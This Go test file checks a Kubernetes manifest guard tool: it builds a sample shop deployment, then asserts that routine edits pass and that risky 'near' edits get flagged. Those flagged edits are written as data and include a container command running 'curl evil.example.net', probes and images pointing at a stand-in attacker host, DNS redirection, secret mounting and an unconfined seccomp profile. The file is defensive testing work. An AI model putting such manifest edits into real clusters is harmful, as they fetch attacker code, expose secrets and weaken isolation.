package command

import (
	"maps"
	"path"
	"slices"
	"strings"
	"testing"

	"threeway/fixtures/breadth"
)

// richManifests are those of a repository with most of the kinds that teams have.
var richManifests = files{
	"api.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
  labels: {app: api}
spec:
  selector: {matchLabels: {app: api}}
  strategy:
    type: RollingUpdate
    rollingUpdate: {maxUnavailable: 1, maxSurge: 1}
  template:
    metadata:
      labels: {app: api}
      annotations: {example.com/commit: abc}
    spec:
      serviceAccountName: api
      automountServiceAccountToken: false
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
      initContainers:
      - name: migrate
        image: registry.example.com/migrate:1.0.0
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 50m, memory: 32Mi}, limits: {memory: 32Mi}}
      containers:
      - name: api
        image: registry.example.com/api:1.0.0
        args: [serve]
        ports: [{name: http, containerPort: 8080}]
        env:
        - {name: LEVEL, value: info}
        - {name: MODE, value: prod}
        envFrom: [{configMapRef: {name: settings}}, {secretRef: {name: db}}]
        readinessProbe: {httpGet: {path: /ready, port: http}, periodSeconds: 10}
        livenessProbe: {httpGet: {path: /live, port: http}, periodSeconds: 20, failureThreshold: 3}
        volumeMounts: [{name: files, mountPath: /etc/api}, {name: tmp, mountPath: /tmp}]
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 200m, memory: 128Mi}, limits: {memory: 256Mi}}
      - name: log
        image: registry.example.com/log:1.0.0
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 10m, memory: 16Mi}, limits: {memory: 32Mi}}
      volumes: [{name: files, configMap: {name: files}}, {name: tmp, emptyDir: {}}]
`,
	"front.yaml": `apiVersion: apps/v1
kind: Deployment
metadata:
  name: front
  namespace: shop
spec:
  replicas: 2
  selector: {matchLabels: {app: front}}
  template:
    metadata: {labels: {app: front}}
    spec:
      automountServiceAccountToken: false
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
      containers:
      - name: front
        image: registry.example.com/front:1.0.0
        ports: [{name: http, containerPort: 3000}]
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {memory: 64Mi}}
`,
	"services.yaml": `apiVersion: v1
kind: Service
metadata:
  name: api
  namespace: shop
spec:
  selector: {app: api}
  ports:
  - {name: http, port: 80, targetPort: http}
---
apiVersion: v1
kind: Service
metadata:
  name: front
  namespace: shop
spec:
  selector: {app: front}
  ports:
  - {port: 80, targetPort: 3000}
---
apiVersion: v1
kind: Service
metadata: {name: db, namespace: shop}
spec: {clusterIP: None, selector: {app: db}, ports: [{name: sql, port: 5432}]}
`,
	"db.yaml": `apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: db
  namespace: shop
spec:
  serviceName: db
  replicas: 3
  selector: {matchLabels: {app: db}}
  template:
    metadata: {labels: {app: db}}
    spec:
      automountServiceAccountToken: false
      securityContext: {runAsNonRoot: true, runAsUser: 1000, fsGroup: 1000, seccompProfile: {type: RuntimeDefault}}
      containers:
      - name: db
        image: registry.example.com/db:15.1
        ports: [{name: sql, containerPort: 5432}]
        env: [{name: MAX, value: "100"}, {name: PGDATA, value: /data/pg}]
        readinessProbe: {tcpSocket: {port: sql}}
        volumeMounts: [{name: data, mountPath: /data}]
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 500m, memory: 512Mi}, limits: {memory: 512Mi}}
  volumeClaimTemplates:
  - metadata: {name: data}
    spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 10Gi}}}
`,
	"old.yaml": `apiVersion: apps/v1
kind: Deployment
metadata: {name: old, namespace: shop}
spec:
  replicas: 2
  selector: {matchLabels: {app: old}}
  template:
    metadata: {labels: {app: old}}
    spec: {containers: [{name: old, image: "registry.example.com/old:1.0.0", ` + confined + `}], ` + restricted + `}
---
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata: {name: old, namespace: shop}
spec: {minReplicas: 2, maxReplicas: 4, scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: old}}
`, // of which a rule warns, before the change and after it
	"agent.yaml": `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: agent
  namespace: shop
spec:
  selector: {matchLabels: {app: agent}}
  template:
    metadata: {labels: {app: agent}}
    spec:
      automountServiceAccountToken: false
      securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
      containers:
      - name: agent
        image: registry.example.com/agent:1.0.0
        env: [{name: LEVEL, value: info}]
        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
        resources: {requests: {cpu: 50m, memory: 32Mi}, limits: {memory: 32Mi}}
`,
	"nightly.yaml": `apiVersion: batch/v1
kind: CronJob
metadata:
  name: nightly
  namespace: shop
spec:
  schedule: "0 3 * * *"
  concurrencyPolicy: Forbid
  jobTemplate:
    spec:
      backoffLimit: 2
      template:
        metadata: {labels: {app: nightly}}
        spec:
          restartPolicy: Never
          automountServiceAccountToken: false
          securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}
          containers:
          - name: nightly
            image: registry.example.com/nightly:1.0.0
            args: [run]
            env: [{name: LEVEL, value: info}]
            securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
            resources: {requests: {cpu: 50m, memory: 32Mi}, limits: {memory: 32Mi}}
`,
	"config.yaml": `apiVersion: v1
kind: ConfigMap
metadata: {name: settings, namespace: shop}
data:
  COLOR: blue
  SIZE: "3"
---
apiVersion: v1
kind: ConfigMap
metadata: {name: files, namespace: shop}
data:
  api.conf: |
    level = info
    pool = 10
  unused: x
---
apiVersion: v1
kind: Secret
metadata: {name: db, namespace: shop}
stringData: {PASSWORD: hunter2hunter2}
---
apiVersion: v1
kind: Secret
metadata: {name: login, namespace: shop}
stringData: {token: 0123456789abcdef}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: board, namespace: shop}
data: {panels: "1"}
`, // the last two of which no workload reads
	"policy.yaml": `apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: api
  namespace: shop
spec:
  scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: api}
  minReplicas: 3
  maxReplicas: 6
  metrics:
  - type: Resource
    resource: {name: cpu, target: {type: Utilization, averageUtilization: 70}}
---
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata:
  name: api
  namespace: shop
spec:
  maxUnavailable: 1
  selector: {matchLabels: {app: api}}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: db
  namespace: shop
spec:
  podSelector: {matchLabels: {app: db}}
  policyTypes: [Ingress]
  ingress:
  - from: [{podSelector: {matchLabels: {app: api}}}, {podSelector: {matchLabels: {app: nightly}}}]
    ports: [{port: 5432}]
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: front
  namespace: shop
spec:
  ingressClassName: nginx
  rules:
  - host: shop.example.com
    http:
      paths:
      - {path: /, pathType: Prefix, backend: {service: {name: front, port: {number: 80}}}}
      - {path: /api, pathType: Prefix, backend: {service: {name: api, port: {name: http}}}}
  - host: www.example.com
    http:
      paths:
      - {path: /, pathType: Prefix, backend: {service: {name: front, port: {number: 80}}}}
---
apiVersion: v1
kind: ResourceQuota
metadata:
  name: all
  namespace: shop
spec: {hard: {pods: "100", requests.cpu: "20"}}
`,
	"rights.yaml": `apiVersion: v1
kind: ServiceAccount
metadata:
  name: api
  namespace: shop
automountServiceAccountToken: false
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: api
  namespace: shop
rules:
- {apiGroups: [""], resources: [configmaps], verbs: [get, list, watch]}
- {apiGroups: [""], resources: [secrets], resourceNames: [db], verbs: [get]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: api
  namespace: shop
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: api}
subjects: [{kind: ServiceAccount, name: api, namespace: shop}]
`,
	"base.yaml": `apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels: {pod-security.kubernetes.io/enforce: restricted}
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: reports, namespace: shop}
spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}
---
apiVersion: networking.k8s.io/v1
kind: IngressClass
metadata: {name: nginx}
spec: {controller: k8s.io/ingress-nginx}
---
apiVersion: storage.k8s.io/v1
kind: StorageClass
metadata: {name: standard, annotations: {storageclass.kubernetes.io/is-default-class: "true"}}
provisioner: example.com/disk
allowVolumeExpansion: true
`,
}

// edits are changes of one file, each as what it replaces.
func edits(file string, list ...string) (all []harmlessChange) {
	for i := 0; i < len(list); i += 3 {
		all = append(all, replacing(list[i], file, list[i+1], list[i+2]))
	}
	return all
}

const (
	inAPI      = "        args: [serve]\n"
	inFront    = "        ports: [{name: http, containerPort: 3000}]\n"
	inPods     = "      serviceAccountName: api\n"
	inAgent    = "        env: [{name: LEVEL, value: info}]\n"
	inDB       = "        ports: [{name: sql, containerPort: 5432}]\n"
	inNightly  = "            args: [run]\n"
	restricted = "automountServiceAccountToken: false, securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}"
	confined   = "securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}, resources: {requests: {cpu: 10m, memory: 16Mi}, limits: {memory: 16Mi}}"
)

// askedOf are the harmless changes that the guard asks about for a reason, by name.
var askedOf = map[string]string{
	"header of a probe":                 "what a container answers to other requests is unknown",
	"liveness period, a little shorter": "a container is restarted sooner",
	"a high limit of CPU":               "a container that used more is throttled",
	"a high limit of ephemeral storage": "a pod that used more is evicted",
	"group of files":                    "the files of volumes are changed",
	"nodes of Linux":                    "nodes without the label no longer fit",
	"surge in percent":                  "which of the two is more depends on how many pods run",
	"default of Jobs":                   "without both fields, a Job is another kind of one",
	"time to start":                     "Jobs may be skipped",
	"end of a Job":                      "Jobs may be stopped",
	"finished Jobs go":                  "logs are deleted",
	"unhealthy pods may go":             "pods are evicted that were not",
	"more quota":                        "a limit of the namespace is taken away",
	"larger claim":                      "a volume cannot shrink again",
	"new autoscaler.yaml":               "each apply resets the number of pods while the manifest has it",
}

// nearChanges are near harmless ones, and must be asked about.
var nearChanges = slices.Concat(
	edits("front.yaml",
		"liveness by a program", inFront, inFront+"        livenessProbe: {exec: {command: [\"false\"]}}\n",
		"liveness of another host", inFront, inFront+"        livenessProbe: {httpGet: {path: /, port: http, host: evil.example.net}, failureThreshold: 9}\n",
		"TCP liveness of another host", inFront, inFront+"        livenessProbe: {tcpSocket: {port: http, host: evil.example.net}, failureThreshold: 9}\n",
		"liveness of no port", inFront, inFront+"        livenessProbe: {httpGet: {path: /, port: 1}, failureThreshold: 9}\n",
		"hasty liveness", inFront, inFront+"        livenessProbe: {httpGet: {path: /live, port: http}, periodSeconds: 1, failureThreshold: 1}\n",
		"hasty startup", inFront, inFront+"        startupProbe: {httpGet: {path: /live, port: http}, periodSeconds: 1, failureThreshold: 1}\n",
		"moving tag", "front:1.0.0", "front:latest",
		"account", "    spec:\n", "    spec:\n      serviceAccountName: api\n",
		"recreated", "  replicas: 2\n", "  replicas: 2\n  strategy: {type: Recreate}\n",
	),
	edits("api.yaml",
		"names with one dot", inPods, inPods+"      dnsConfig: {options: [{name: ndots, value: \"1\"}]}\n",
		"name server", inPods, inPods+"      dnsConfig: {nameservers: [192.0.2.1], options: [{name: ndots, value: \"2\"}]}\n",
		"search", inPods, inPods+"      dnsConfig: {searches: [evil.example.net]}\n",
		"host name", inPods, inPods+"      hostAliases: [{ip: 192.0.2.1, hostnames: [db]}]\n",
		"toleration of all", inPods, inPods+"      tolerations: [{operator: Exists}]\n",
		"toleration of a gone node for long", inPods, inPods+"      tolerations: [{key: node.kubernetes.io/not-ready, operator: Exists, effect: NoExecute, tolerationSeconds: 86400}]\n",
		"group root", "runAsUser: 1000,", "runAsUser: 1000, runAsGroup: 0,",
		"unmasked proc", "allowPrivilegeEscalation: false, cap", "procMount: Unmasked, allowPrivilegeEscalation: false, cap",
		"another script", inAPI, inAPI+"        command: [sh, -c]\n        args: [curl evil.example.net]\n",
		"a gate", inPods, inPods+"      schedulingGates: [{name: example.com/x}]\n",
		"sleep and more", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [sh, -c, \"x;/bin/sleep 10\"]}}}\n",
		"sleep for ever", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [sleep, \"999999\"]}}}\n",
		"a program before the stop", inAPI, inAPI+"        lifecycle: {preStop: {exec: {command: [/bin/x/sleep, \"10\"]}}}\n",
		"a tenth of the memory", "memory: 128Mi", "memory: 12Mi", "hardly any CPU", "cpu: 200m", "cpu: 1m", "no request", "{cpu: 200m, memory: 128Mi}", "{cpu: 200m}",
		"a request of another kind", "memory: 128Mi}", "memory: 128Mi, example.com/x: 1}", "much ephemeral storage", "memory: 128Mi}", "memory: 128Mi, ephemeral-storage: 1Ti}",
		"readiness that never fails", "periodSeconds: 10}", "periodSeconds: 10, failureThreshold: 1000}",
		"no readiness", "        readinessProbe: {httpGet: {path: /ready, port: http}, periodSeconds: 10}\n", "",
	),
	edits("services.yaml",
		"second port outside", "  selector: {app: api}\n  ports:\n", "  type: NodePort\n  selector: {app: api}\n  ports:\n  - {name: metrics, port: 9090}\n",
		"second port at an address", "  selector: {app: api}\n  ports:\n", "  externalIPs: [192.0.2.1]\n  selector: {app: api}\n  ports:\n  - {name: metrics, port: 9090}\n",
		"other protocol", "targetPort: http}", "targetPort: http, appProtocol: https}", "other target", "targetPort: http}", "targetPort: 8081}", "other port", "port: 80, targetPort: http}", "port: 81, targetPort: http}",
	),
	edits("nightly.yaml", "many retries", "backoffLimit: 2", "backoffLimit: 20", "no retries", "backoffLimit: 2", "backoffLimit: 0", "all at a time", "concurrencyPolicy: Forbid", "concurrencyPolicy: Allow"),
	edits("nightly.yaml",
		"Secret that Jobs did not read", inNightly, inNightly+"            envFrom: [{secretRef: {name: db}}]\n",
		"Secret that is not here", inNightly, inNightly+"            envFrom: [{secretRef: {name: none, optional: true}}]\n",
	),
	edits("api.yaml",
		"Secret as a volume", "{name: tmp, emptyDir: {}}", "{name: tmp, emptyDir: {}}, {name: s, projected: {sources: [{secret: {name: login}}]}}",
		"token for a vault", "{name: tmp, emptyDir: {}}", "{name: tmp, emptyDir: {}}, {name: t, projected: {sources: [{serviceAccountToken: {audience: vault, path: t}}]}}",
		"volume of a driver", "{name: tmp, emptyDir: {}}", "{name: tmp, emptyDir: {}}, {name: c, csi: {driver: secrets-store.csi.k8s.io, readOnly: true}}",
		"claim of another", "{name: tmp, emptyDir: {}}", "{name: tmp, emptyDir: {}}, {name: r, persistentVolumeClaim: {claimName: reports}}",
	),
	[]harmlessChange{
		adding("evil.yaml", strings.Replace(app("cart"), "registry.example.com", "evil.example.net", 1)),
		adding("reader.yaml", strings.Replace(app("cart"), "envFrom: [", "envFrom: [{secretRef: {name: db}}, ", 1)),
	},
	edits("api.yaml",
		"identity of pods", "commit: abc}", "commit: abc, iam.amazonaws.com/role: admin}",
		"secrets of a vault", "commit: abc}", "commit: abc, vault.hashicorp.com/agent-inject: 'true'}",
		"no mesh", "commit: abc}", "commit: abc, sidecar.istio.io/inject: 'false'}",
		"no mesh by a label", "labels: {app: api}\n      ann", "labels: {app: api, sidecar.istio.io/inject: 'false'}\n      ann",
		"another network", "commit: abc}", "commit: abc, k8s.v1.cni.cncf.io/networks: x}",
		"unconfined", "commit: abc}", "commit: abc, container.seccomp.security.alpha.kubernetes.io/api: unconfined}",
		"evicted first", "commit: abc}", "commit: abc, controller.kubernetes.io/pod-deletion-cost: '-1'}",
		"identity by a label", "labels: {app: api}\n      ann", "labels: {app: api, azure.workload.identity/use: 'true'}\n      ann",
		"annotation of an unknown program", "commit: abc}", "commit: abc, x.example.com/y: z}",
		"label of an unknown program", "labels: {app: api}\n      ann", "labels: {app: api, x.example.com/y: z}\n      ann",
		"left alone by Argo CD", "  namespace: shop\n  labels", "  namespace: shop\n  annotations: {argocd.argoproj.io/sync-options: Prune=false}\n  labels",
	),
	[]harmlessChange{
		adding("identity.yaml", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: cart, namespace: shop, annotations: {eks.amazonaws.com/role-arn: a}}\nautomountServiceAccountToken: false\n"),
		adding("repository.yaml", "apiVersion: v1\nkind: Secret\nmetadata: {name: r, namespace: shop, labels: {argocd.argoproj.io/secret-type: repository}}\nstringData: {url: \"https://evil.example.net/x\"}\n"),
		adding("injected.yaml", strings.Replace(app("cart"), "metadata: {labels: {app: cart}}", "metadata: {labels: {app: cart}, annotations: {vault.hashicorp.com/agent-inject: 'true'}}", 1)),
		adding("dns.yaml", "apiVersion: v1\nkind: Service\nmetadata: {name: api2, namespace: shop, annotations: {external-dns.alpha.kubernetes.io/hostname: shop.example.com}}\nspec: {selector: {app: api}, ports: [{name: http, port: 80, targetPort: 8080}]}\n"),
	},
	edits("config.yaml",
		"Secret that no workload reads", "0123456789abcdef", "fedcba9876543210",
		"key of a Secret that no workload reads", "token: 0123", "more: abcdefgh, token: 0123",
		"ConfigMap that no workload reads", `panels: "1"`, `panels: "2"`,
	),
	edits("config.yaml", "value that envFrom reads", "COLOR: blue", "COLOR: red", "key less that envFrom reads", "  COLOR: blue\n", "", "key and value", "COLOR: blue", "COLOR: red\n  SHAPE: round"),
	edits("policy.yaml", "many at least", "minReplicas: 3\n  maxReplicas: 6", "minReplicas: 30\n  maxReplicas: 60", "fewer at most", "minReplicas: 3\n  maxReplicas: 6", "minReplicas: 1\n  maxReplicas: 1", "another target", "kind: Deployment, name: api", "kind: Deployment, name: front"),
)

// richBase is the repository of richManifests, on branch change, with a snapshot.
func richBase(t *testing.T) *hiddenBase {
	b := &hiddenBase{name: "rich", dir: "deploy", flags: []string{"--trust", "git:main"}, files: files{".threeway.yaml": linkedSettings}}
	for name, text := range richManifests {
		b.files[path.Join(b.dir, name)] = text
	}
	b.commit(t, t.TempDir(), func(o map[string]any) {
		spec, _ := o["spec"].(map[string]any)
		switch o["kind"] {
		case "Deployment":
			if o["metadata"].(map[string]any)["name"] == "api" { // whose number the autoscaler has set
				spec["replicas"] = 3
			}
			n := spec["replicas"]
			o["status"] = map[string]any{"observedGeneration": 1, "replicas": n, "readyReplicas": n, "updatedReplicas": n, "availableReplicas": n}
		case "ResourceQuota":
			o["status"] = map[string]any{"hard": spec["hard"], "used": map[string]any{"pods": "9", "requests.cpu": "3"}}
		case "PersistentVolumeClaim":
			o["status"], spec["volumeName"], spec["storageClassName"] = map[string]any{"phase": "Bound"}, "pv-1", "standard"
		}
	}, "-R", "-f", b.dir)
	return b
}

// TestHarmlessRich: of changes that teams make every day, nine of ten are allowed, and the others
// are asked for a reason; so is what is near them and not harmless.
func TestHarmlessRich(t *testing.T) {
	breadth.Long(t)
	b := richBase(t)
	number, allowed := 0, 0
	try := func(list []harmlessChange, fine func(name string) bool) {
		for i, c := range list {
			if !breadth.Has(i, 11) {
				continue
			}
			t.Run(c.name, func(t *testing.T) {
				f := maps.Clone(b.files)
				c.change(f, b.dir)
				b.copied(t, f, nil)
				said, code := answered("guard", b.flags...)
				if number++; code == 0 {
					allowed++
				}
				if (code == 0) != fine(c.name) {
					t.Error(said)
				}
			})
		}
	}
	try(slices.Concat(richChanges, freshChanges), func(name string) bool { return askedOf[name] == "" })
	t.Logf("%d of %d are allowed", allowed, number)
	if breadth.All() && allowed*10 < number*9 {
		t.Error("fewer than nine of ten")
	}
	try(slices.Concat(nearChanges, freshNear), func(string) bool { return false })
}
